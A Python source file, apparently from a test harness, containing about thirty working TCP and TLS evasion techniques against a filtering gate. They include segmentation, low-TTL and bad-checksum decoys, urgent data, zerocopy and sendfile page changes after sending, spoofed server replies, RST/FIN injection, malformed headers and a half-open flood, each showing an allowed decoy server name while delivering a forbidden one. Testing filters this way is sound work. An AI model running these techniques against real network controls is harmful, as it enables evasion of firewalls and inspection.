# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on what a gate believes of a TCP stream.  tcp.py ATTACK NONCE: toward 198.18.2.80:443, where allowed names live too.

Each shows an allowed name (DECOY) to whoever looks at packets, and the forbidden one, which holds the nonce, to the server's kernel."""
import ctypes
import mmap
import os
import socket
import ssl
import struct
import sys
import tempfile
import time

from raw import ACK, FIN, ME4, PSH, RST, SYN, URG, Tcp, frame, hello, ip4, send, tcp

TO, DECOY = "198.18.2.80", "deep.a.wild.test"


def evil(nonce):
    """A name with the nonce, of DECOY's length."""
    return nonce + "z" * (len(DECOY) - len(nonce))


def plain(**options):
    socket.getaddrinfo(DECOY, 443, socket.AF_INET)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, options.get("protocol", 0))
    sock.settimeout(20)
    if options.get("protocol", 0) == 0:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.connect((TO, 443))
    sock.settimeout(1)
    return sock


def wait(sock):
    try:
        print(len(sock.recv(4096)), "bytes came back")
    except OSError as error:
        print(error)


# ---- by an ordinary user, with ordinary sockets ----


def segments(nonce, size):
    sock, data = plain(), hello(evil(nonce))
    for at in range(0, len(data), size):
        sock.send(data[at : at + size])
        time.sleep(0.0005)
    wait(sock)


def by_ones(nonce):
    segments(nonce, 1)


def in_two(nonce):
    sock, data = plain(), hello(evil(nonce))
    cut = data.index(nonce.encode()) + 4
    sock.send(data[:cut])
    time.sleep(0.05)
    sock.send(data[cut:])
    wait(sock)


def late_first(nonce):
    """The first half dies on the way; the second arrives before its repetition."""
    sock, data = plain(), hello(evil(nonce))
    cut = data.index(nonce.encode()) + 4
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
    sock.send(data[:cut])
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
    sock.send(data[cut:])
    wait(sock)


def urgent(nonce):
    """A byte that the server skips, in the middle of the name."""
    sock, data = plain(), hello(evil(nonce))
    cut = data.index(nonce.encode()) + 4
    sock.send(data[:cut])
    sock.send(b"!", socket.MSG_OOB)
    sock.send(data[cut:])
    wait(sock)


def fast_open(nonce):
    socket.getaddrinfo(DECOY, 443, socket.AF_INET)
    sock = socket.socket()
    sock.settimeout(1)
    sock.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE
    sock.sendto(b"word " + nonce.encode(), 0x20000000, (TO, 443))
    wait(sock)


def multipath(nonce):
    sock = plain(protocol=262)
    sock.send(hello(evil(nonce)))
    wait(sock)


def changed_page(nonce):
    """MSG_ZEROCOPY: the pages are the sender's.  The first sending dies on the way; then the name in them changes."""
    sock = plain()
    sock.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
    page = mmap.mmap(-1, 4096)
    data = hello(DECOY)
    page[: len(data)] = data
    at = data.index(DECOY.encode())
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
    libc = ctypes.CDLL(None)
    libc.send(sock.fileno(), ctypes.byref((ctypes.c_char * len(data)).from_buffer(page)), len(data), 0x4000000)
    page[at : at + len(DECOY)] = evil(nonce).encode()
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
    wait(sock)


def changed_file(nonce):
    """The same by sendfile: the pages are the file's."""
    sock, data = plain(), hello(DECOY)
    with tempfile.NamedTemporaryFile() as file:
        file.write(data)
        file.flush()
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
        os.sendfile(sock.fileno(), file.fileno(), 0, len(data))
        os.pwrite(file.fileno(), evil(nonce).encode(), data.index(DECOY.encode()))
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
        wait(sock)


def reused_ports(nonce):
    """A connection with an allowed name that the server resets; then the same ports, another name."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    socket.getaddrinfo(DECOY, 443, socket.AF_INET)

    def connect():
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", 23456))
        sock.settimeout(20)
        sock.connect((TO, 443))
        return sock

    sock = connect()
    raw = sock.dup()
    first = context.wrap_socket(sock, server_hostname=DECOY)
    try:
        for _ in range(200):
            raw.send(b"\x17\x03\x03\x40\0" + b"X" * 16384)
        time.sleep(0.2)
        raw.send(b"x")
    except OSError:
        pass
    os.close(first.detach())
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    raw.close()
    time.sleep(0.05)
    second = connect()
    second.send(hello(evil(nonce)))
    wait(second)


# ---- by packets of our own ----


def by_hand(timestamps=True):
    socket.getaddrinfo(DECOY, 443, socket.AF_INET)
    conn = Tcp(TO, 443, timeout=1.0, timestamps=timestamps)
    if not conn.open(patience=20):
        sys.exit("no connection")
    return conn


def result(conn):
    print(conn.receive())


def left_overlap(nonce):
    conn, decoy = by_hand(), hello(DECOY)
    conn.send(decoy + hello(evil(nonce)), at=-len(decoy))
    result(conn)


def decoy_then(nonce, **how):
    """A decoy that the server never takes, then the real bytes at the same place."""
    conn = by_hand(how.pop("timestamps", True))
    ahead = how.pop("ahead", 0)
    conn.send(hello(DECOY), at=how.pop("at", 0), ack=(conn.ack + ahead) & 0xFFFFFFFF, **how)
    time.sleep(0.05)
    conn.send(hello(evil(nonce)), at=0)
    result(conn)


def same_place(nonce):
    decoy_then(nonce, ttl=1)


def bad_seq(nonce):
    decoy_then(nonce, at=-100000)


def bad_ack(nonce):
    decoy_then(nonce, ahead=1000000)


def stale_stamp(nonce):
    decoy_then(nonce, stamp=-1000000)


def md5(nonce):
    decoy_then(nonce, timestamps=False, options=b"\x13\x12" + b"\x55" * 16)


def bad_sum(nonce):
    decoy_then(nonce, bad_sum=True)


def no_ack(nonce):
    decoy_then(nonce, flags=PSH)


def answers_itself(nonce, gateway):
    """A decoy that the server drops for its old timestamp; the answer to it, by a frame to the gateway, in the server's name."""
    conn, decoy = by_hand(), hello(DECOY)
    conn.send(flags=ACK, stamp=1 << 28)
    time.sleep(0.05)
    conn.send(decoy, at=0)
    time.sleep(0.05)
    stamps = b"\1\1\x08\x0a" + struct.pack(">II", conn.peer_stamp + 1, conn.stamp)
    said = b"\x16\3\3\0\x4a\2\0\0\x46\3\3" + bytes(range(32)) + b"\0" * 36
    answer = tcp(ME4, 443, conn.sport, conn.ack, conn.isn + 1 + len(decoy), ACK | PSH, said, stamps, src=TO)
    frame(gateway, ip4(ME4, 6, answer, src=TO))
    time.sleep(0.05)
    conn.send(hello(evil(nonce)), at=0, stamp=1 << 28 | 1)
    result(conn)


def again(nonce, at):
    """A hello that is approved; while the verdict is on its way, the end of that connection, which conntrack does not take for one (its
    number is not what was acknowledged last), and another between the same ports.  Files beside `at` say when."""
    conn, decoy = by_hand(), hello(DECOY)
    data = hello(evil(nonce))
    conn.send(decoy)
    print("the server has it:", conn.receive())
    open(at + ".sent", "w", encoding="ascii").close()
    while not os.path.exists(at + ".go"):
        time.sleep(0.001)
    conn.send(b"\x16")
    conn.send(at=len(decoy), flags=ACK)
    conn.send(flags=RST | ACK)
    conn.isn, conn.at, conn.ack = conn.isn + (1 << 20), 0, 0
    if conn.open():
        conn.send(data)
        result(conn)


def end_then(nonce, **end):
    """A segment that ends the connection and that the server never takes, then the real bytes."""
    conn = by_hand()
    conn.send(**end)
    time.sleep(0.05)
    conn.send(hello(evil(nonce)))
    result(conn)


def rst_low_ttl(nonce):
    end_then(nonce, flags=RST | ACK, ttl=1)


def fin_low_ttl(nonce):
    end_then(nonce, flags=FIN | ACK, ttl=1)


def rst_bad_sum(nonce):
    end_then(nonce, flags=RST | ACK, bad_sum=True)


def raw_urgent(nonce):
    conn, data = by_hand(), hello(evil(nonce))
    cut = data.index(nonce.encode()) + 4
    conn.send(data[:cut] + b"!" + data[cut:], flags=ACK | PSH | URG, urgent=cut + 1)
    result(conn)


def offset(nonce):
    """A header that claims to be longer than the packet; flags that exclude each other; options that end too late."""
    word = nonce.encode()
    for flags, options, words in (ACK, b"", 15), (SYN | FIN | RST | PSH, b"", None), (0, b"", None), (ACK, b"\x1c\xff\0\0", None), (SYN, b"\2\0\0\0", None), (ACK, b"", 2):
        send(ip4(TO, 6, tcp(TO, 61001, 443, 1, 1, flags, word, options, offset=words)))
        send(ip4("198.18.3.66", 6, tcp("198.18.3.66", 61001, 443, 1, 1, flags, word, options, offset=words)))


def midstream(nonce, to="198.18.3.66"):
    """No handshake: data of a connection that never was."""
    for flags in ACK | PSH, FIN | ACK, RST, SYN | ACK:
        send(ip4(to, 6, tcp(to, 61002, 80, 1000, 2000, flags, nonce.encode())))


def reply(nonce, word):
    """What the attacker's packet began, as conntrack may see it: the client's word as a reply."""
    send(ip4("198.18.3.66", 6, tcp("198.18.3.66", 61003, 80, 2000, 1001, ACK | PSH, nonce.encode())))


def syn_data(nonce):
    send(ip4(TO, 6, tcp(TO, 61004, 443, 1, 0, SYN, nonce.encode())))


def syn_option(nonce):
    """Experimental options of a SYN, to an allowed address."""
    socket.getaddrinfo(DECOY, 443, socket.AF_INET)
    word = nonce.encode()
    send(ip4(TO, 6, tcp(TO, 61005, 443, 1, 0, SYN, b"", b"\xfd" + bytes([2 + len(word)]) + word)))


def half_open(nonce, count=600):
    """Many hellos that never end."""
    socket.getaddrinfo(DECOY, 443, socket.AF_INET)
    socks, data = [], hello(evil(nonce))
    for _ in range(count):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((TO, 443))
        socks.append(sock)
    time.sleep(1)
    for sock in socks:
        try:
            sock.send(data[: data.index(nonce.encode()) + len(nonce) + 4])
        except OSError:
            pass
    time.sleep(0.3)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
